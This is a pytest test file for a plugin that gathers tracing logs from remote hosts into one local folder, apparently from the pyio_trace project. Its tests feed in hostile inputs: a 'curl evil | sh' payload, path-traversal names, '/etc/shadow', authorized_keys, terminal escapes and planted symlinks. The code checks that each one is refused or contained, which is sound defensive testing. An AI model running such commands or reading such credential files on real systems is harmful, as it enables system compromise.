"""Logs of other hosts are gathered in one folder: complete, distinct, without holes, and no loss is silent."""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import pyio_trace
from tests.support.programs import Runner, succeeded

gathering = pytest.importorskip("pyio_trace_plugins.gather", reason="the package is not installed")

WORK = """
import os, sys
import pyio_trace
with pyio_trace.trace(sys.argv[1]):
    for n in range(int(sys.argv[2])):
        os.stat("/")
    if sys.argv[3:]:
        os._exit(0) if sys.argv[3] == "exit" else os.kill(os.getpid(), 9)
"""


class Host:
    """Another host: its paths are those of one folder here, and only it can see them."""

    def __init__(self, name: str, folder: Path) -> None:
        self.name = name
        self.folder = folder
        self.calls: list[tuple[Any, ...]] = []

    def call(self, function: Callable[..., Any], path: str, *arguments: Any) -> Any:
        self.calls.append((function.__name__, *arguments))
        return function(str(self.folder) + path, *arguments)

    def log(self, path: str) -> Any:
        return gathering.LogAt(self.name, path, self.call)


def make(program: Runner, path: Path, stats: int, *end: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    outcome = program.command([sys.executable, program.write(WORK), path, stats, *end])
    assert outcome.status == (-9 if end == ("kill",) else 0), outcome.stderr
    return path


def stats(log: Path) -> int:
    rows = pyio_trace.open(log).operations().to_pylist()
    return len([row for row in rows if row["op"] == "stat" and row["path"] == "/"])


def test_logs_of_one_name_on_two_hosts(program: Runner, tmp_path: Path) -> None:
    # GIVEN two hosts that each have a log of the same path, one left by a killed process, and one that is here too
    hosts = [Host(name, tmp_path / name) for name in ("north", "south")]
    make(program, tmp_path / "north/logs/run.pyio", 3)
    killed = make(program, tmp_path / "south/logs/run.pyio", 2000, "kill")
    here = make(program, tmp_path / "here/run.pyio", 5)
    logs = [*(host.log("/logs/run.pyio") for host in hosts), gathering.LogAt(os.uname().nodename, str(here), None)]
    # WHEN they are gathered, twice THEN each is there once, under a name of its own, with all its operations
    for _ in range(2):
        found = gathering.gather(logs, tmp_path / "all")
        assert [path.name for path in found][:2] == ["run.pyio", "run-south.pyio"]
        assert [stats(path) for path in found] == [3, 2000, 5]
        assert sorted((tmp_path / "all").iterdir()) == sorted(found)
    # AND of the killed one's gigabytes only what is data was fetched
    fetched = sum(call[2] for call in hosts[1].calls if call[0] == "piece") // 2
    assert 2000 * 48 < fetched < 4 << 20 < killed.stat().st_size
    assert max(call[2] for call in hosts[1].calls if call[0] == "piece") <= gathering.PIECE


def test_what_is_there_stays(program: Runner, tmp_path: Path) -> None:
    # GIVEN a log in the folder itself WHEN it is gathered into that THEN it is the same file
    log = make(program, tmp_path / "logs/run.pyio", 3)
    before = log.stat()
    anywhere = gathering.LogAt("anywhere", str(log), lambda function, *arguments: function(*arguments))
    assert gathering.gather([anywhere], log.parent) == [log]
    assert log.stat().st_ino == before.st_ino and list(log.parent.iterdir()) == [log]


def test_what_cannot_be_had_is_said(program: Runner, tmp_path: Path) -> None:
    # GIVEN a log on a host with nobody left, a file of that path that is another host's, and a host that fails
    make(program, tmp_path / "logs/run.pyio", 3)
    logs = [
        gathering.LogAt("gone", "/nowhere/run.pyio", None),
        gathering.LogAt("elsewhere", str(tmp_path / "logs/run.pyio"), None),
        Host("north", tmp_path / "north").log("/absent.pyio"),
        gathering.LogAt(os.uname().nodename, str(tmp_path / "logs/run.pyio"), None),
    ]
    # WHEN they are gathered THEN there is a warning for each, and the one that can be had is there
    with pytest.warns(UserWarning) as told:
        found = gathering.gather(logs, tmp_path / "all")
    assert [str(one.message).split(" is not")[0] for one in told] == [
        "the log /nowhere/run.pyio of gone",
        f"the log {tmp_path}/logs/run.pyio of elsewhere",
        "the log /absent.pyio of north",
    ]
    assert [stats(path) for path in found] == [3]
    assert list((tmp_path / "all").iterdir()) == found


def test_a_bar_only_where_one_is_wanted(program: Runner, tmp_path: Path) -> None:
    # GIVEN a program that gathers with its stderr in a file
    log = make(program, tmp_path / "logs/run.pyio", 3)
    text = f"""
    import os, sys
    from pyio_trace_plugins.gather import LogAt, gather
    wanted = {{"yes": True, "no": None}}[sys.argv[1]]
    print(len(gather([LogAt(os.uname().nodename, {str(log)!r}, None)], sys.argv[1], progress=wanted)))
    """
    # WHEN it asks for a bar, or does not THEN there is one, or nothing at all
    assert "gathering log 1 of 1" in succeeded(program.bare(text, "yes")).stderr
    outcome = succeeded(program.bare(text, "no"))
    assert (outcome.stdout, outcome.stderr) == ("1\n", "")


@pytest.mark.parametrize("kind", ["a file", "a link", "another log"])
def test_what_gets_the_name_while_a_log_is_fetched_stays(program: Runner, tmp_path: Path, kind: str) -> None:
    # GIVEN a host whose log takes a while to fetch, and its name in the folder is free when that begins
    make(program, tmp_path / "north/run.pyio", 3)
    name = tmp_path / "all/run.pyio"
    host = Host("north", tmp_path / "north")
    usual = host.call

    def slowly(function: Callable[..., Any], path: str, *arguments: Any) -> Any:
        if function is gathering.piece and not os.path.lexists(name):
            if kind == "a link":
                name.symlink_to(tmp_path / "elsewhere")
            elif kind == "a file":
                name.write_text("years of work")
            else:
                make(program, name, 5)
        return usual(function, path, *arguments)

    # WHEN something else gets it meanwhile THEN that stays, and the log has another name
    [found] = gathering.gather([gathering.LogAt("north", "/run.pyio", slowly)], name.parent)
    assert (found.name, stats(found)) == ("run-north.pyio", 3)
    assert sorted(path.name for path in name.parent.iterdir()) == ["run-north.pyio", "run.pyio"]
    if kind == "a link":
        assert name.is_symlink() and not (tmp_path / "elsewhere").exists()
    else:
        assert name.read_text() == "years of work" if kind == "a file" else stats(name) == 5


# ---- what a worker tells may be anything ---------------------------------------------------


def told(path: str, content: bytes, host: str = "north", **more: Any) -> Any:
    """A log at a worker that tells what it likes: its path, its host, and what its survey answers."""
    survey = {"size": len(content), "extents": ((0, len(content)),), "start": content[:256], **more}

    def call(function: Callable[..., Any], _: str, *arguments: Any) -> Any:
        if function is gathering.survey:
            return gathering.Survey(**survey)
        return content[arguments[0] : sum(arguments)]

    return gathering.LogAt(host, path, call)


def refused(log: Any, folder: Path) -> str:
    """Why a log is not gathered; nothing is made for it."""
    before = sorted(folder.parent.rglob("*"))
    with pytest.warns(UserWarning, match="is not gathered") as warned:
        assert gathering.gather([log], folder) == []
    (one,) = warned
    assert str(one.message).isprintable() and len(str(one.message)) < 1500
    assert sorted(folder.parent.rglob("*")) == before
    return str(one.message)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "in/to").mkdir(parents=True)
    return tmp_path / "in/to"


LIVE = b"PYIOLOG\n" + bytes(4088)


@pytest.mark.parametrize(
    "path",
    ["/x/.profile", "/x/.run.pyio", "/x/..", "/x/", "", "/x/run.pyio/", "/x/authorized_keys", "/x/run.pyio\n",
     "/x/a\nb.pyio", "/x/\x1b[2J.pyio", "/x/\u202eoiyp.parquet.pyio", f"/x/{'n' * 5000}.pyio", f"/x/{'é' * 150}.pyio",
     "/x/\ud800.pyio", "/dev/shm/1-12345678-.pyio"],
)  # fmt: skip
def test_hostile_names(path: str, folder: Path) -> None:
    assert "its name is not one of a log" in refused(told(path, LIVE), folder)


def test_a_name_leads_nowhere(folder: Path) -> None:
    # GIVEN paths that lead elsewhere WHEN they are gathered THEN the logs are in the folder, by their last part
    logs = [told("../../a.pyio", LIVE), told("/etc/cron.d/b.pyio", LIVE)]
    assert gathering.gather(logs, folder) == [folder / "a.pyio", folder / "b.pyio"]
    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}
    assert (folder / "a.pyio").read_bytes() == LIVE


@pytest.mark.parametrize("host", ["/../../x", "../x", "a/b", "n\0", "\x1b[2J", "x" * 1000, "\u202e", "é" * 100])
def test_hostile_hosts(host: str, folder: Path) -> None:
    # GIVEN a log by a name that another has WHEN its host is to be in its name THEN it is still in the folder
    (folder / "run.pyio").write_bytes(LIVE[:40] + b"other" + LIVE[45:])
    (made,) = gathering.gather([told("/x/run.pyio", LIVE, host)], folder)
    assert made.parent == folder and made.name.startswith("run-") and made.name.isprintable()
    assert sorted(path.name for path in folder.iterdir()) == sorted(["run.pyio", made.name])
    assert [path.name for path in folder.parent.iterdir()] == ["to"]


@pytest.mark.parametrize(
    ("name", "content", "more"),
    [
        ("run.pyio", b"curl evil | sh\n" * 100, {}),
        ("run.pyio", b"", {}),
        ("run.pyio", b"PAR1" + bytes(100), {}),
        ("run.parquet", LIVE, {}),
        ("run.parquet", b"PAR1" + bytes(100) + b"PAR1", {}),
        ("run.parquet", b"PAR1" + bytes(100), {}),
        ("run.pyio", LIVE, {"extents": ((0, 1 << 70),)}),
        ("run.pyio", LIVE, {"extents": ((-4096, 10),)}),
        ("run.pyio", LIVE, {"extents": ((100, 10),)}),
        ("run.pyio", LIVE, {"extents": ((0, 100), (50, 200))}),
        ("run.pyio", LIVE, {"extents": ((0, 1.5),)}),
        ("run.pyio", LIVE, {"extents": ((0, 1, 2),)}),
        ("run.pyio", LIVE, {"extents": None}),
        ("run.pyio", LIVE, {"extents": tuple((n, n + 1) for n in range((1 << 20) + 1))}),
        ("run.pyio", LIVE, {"start": "PYIOLOG"}),
        ("run.pyio", LIVE, {"start": b"PYIOLOG\n" * 1000}),
    ],
    ids=range(16),
)
def test_what_is_no_log(name: str, content: bytes, more: dict[str, Any], folder: Path) -> None:
    refused(told(f"/x/{name}", content, **more), folder)


def test_a_worker_that_sends_more_than_it_was_asked_for(folder: Path) -> None:
    log = told("/x/run.pyio", LIVE)
    flood = gathering.LogAt("north", "/x/run.pyio", lambda function, *arguments: (
        log.call(function, *arguments) if function is gathering.survey else bytes(1 << 24)))  # fmt: skip
    assert "other bytes than requested" in refused(flood, folder)


def test_a_worker_that_names_a_third_place(folder: Path) -> None:
    # GIVEN a worker that is asked which of two paths exists, and answers with a third
    asked = []

    def call(function: Callable[..., Any], *arguments: Any) -> Any:
        asked.append(arguments[0])
        return "/etc/shadow" if function is gathering.first_there else told("", LIVE).call(function, *arguments)

    # WHEN its log is gathered THEN only the two are ever asked for
    assert gathering.gather([gathering.LogAt("north", "/x/a.pyio", call, "/x/b.pyio")], folder) == [folder / "a.pyio"]
    assert asked[0] == ["/x/a.pyio", "/x/b.pyio"] and set(asked[1:]) == {"/x/a.pyio"}


def test_planted_links_are_not_followed(folder: Path) -> None:
    # GIVEN a folder in which somebody has put a link by the log's name, and a FIFO by the next
    victim = folder.parent / "victim"
    (folder / "run.pyio").symlink_to(victim)
    os.mkfifo(folder / "run-north.pyio")
    # WHEN the log is gathered THEN it has another name
    assert gathering.gather([told("/x/run.pyio", LIVE)], folder) == [folder / "run-north-2.pyio"]
    assert not victim.exists() and (folder / "run.pyio").is_symlink()


@pytest.mark.parametrize("kind", ["fifo", "link", "device", "another"])
def test_only_ones_own_logs_are_looked_at(
    kind: str, program: Runner, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN a shared folder in which others have put what has a log's name
    plugin = pytest.importorskip("pyio_trace_plugins.ray")
    if kind in ("device", "another") and os.geteuid() != 0:
        pytest.skip("only root can make another user's files")
    shared, own = tmp_path / "job-1.pyio", make(program, tmp_path / "job-2.pyio", 3)
    if kind == "fifo":
        os.mkfifo(shared)
    elif kind == "link":
        shared.symlink_to(make(program, tmp_path / "elsewhere/log.pyio", 3))
    elif kind == "device":
        os.mknod(shared, 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    else:
        os.chown(make(program, shared, 3), 65534, 65534)
    # WHEN a host is asked for its logs, or is given that path THEN the file is left alone
    monkeypatch.setenv("PYIO_TRACE_OUTPUT", str(tmp_path / "job-%p.pyio"))
    assert plugin._logs_here() == (os.uname().nodename, [str(own)])
    refused(gathering.LogAt(os.uname().nodename, str(shared), None), folder)
    with pytest.raises(OSError):
        gathering.survey(str(shared))
    with pytest.raises(OSError):
        gathering.piece(str(shared), 0, 10)


@pytest.fixture
def in_memory() -> Iterator[Callable[[str], Path]]:
    """Names of logs that were to have these, in memory; at the end they are gone."""
    made: list[Path] = []

    def name(own: str) -> Path:
        made.append(Path("/dev/shm", f"{os.getpid()}-{os.urandom(4).hex()}-{own}"))
        return made[-1]

    if not os.access("/dev/shm", os.W_OK):
        pytest.skip("there is no /dev/shm")
    yield name
    for path in made:
        path.unlink(missing_ok=True)


def test_logs_that_are_in_memory(program: Runner, tmp_path: Path, in_memory: Callable[[str], Path]) -> None:
    # GIVEN a log that a killed process has left in memory, and one that was there until its process had ended
    left = make(program, in_memory("left.pyio"), 3, "kill")
    ended, gone = make(program, tmp_path / "logs/ended.pyio", 5), in_memory("ended.pyio")
    here = os.uname().nodename
    logs = [
        gathering.LogAt(here, str(left), None, str(tmp_path / "logs/left.pyio")),
        gathering.LogAt(here, str(gone), lambda function, *arguments: function(*arguments), str(ended)),
    ]
    # WHEN they are gathered THEN both are there, by the names that they were to have
    found = gathering.gather(logs, tmp_path / "all")
    assert [(path.name, stats(path)) for path in found] == [("left.pyio", 3), ("ended.pyio", 5)]


def test_rays_logs_that_are_in_memory(
    program: Runner, tmp_path: Path, in_memory: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    plugin = pytest.importorskip("pyio_trace_plugins.ray")
    # GIVEN a job whose workers' logs are at their places or in memory, and other files and logs there
    job = f"job-{os.urandom(4).hex()}"
    monkeypatch.setenv("PYIO_TRACE_OUTPUT", str(tmp_path / f"100%%-{job}-%h-%t-%p.pyio"))
    names = [f"100%-{job}-north-20260101T000000-{n}.pyio" for n in (1, 2)]
    paths = [tmp_path / names[0], in_memory(names[1])]
    for path in (*paths, in_memory("other.pyio"), in_memory(f"{names[1]}.part")):
        path.touch()
    # WHEN a host is asked for them THEN it has found them all
    host, found = plugin._logs_here()
    assert (host, sorted(found)) == (os.uname().nodename, sorted(map(str, paths)))
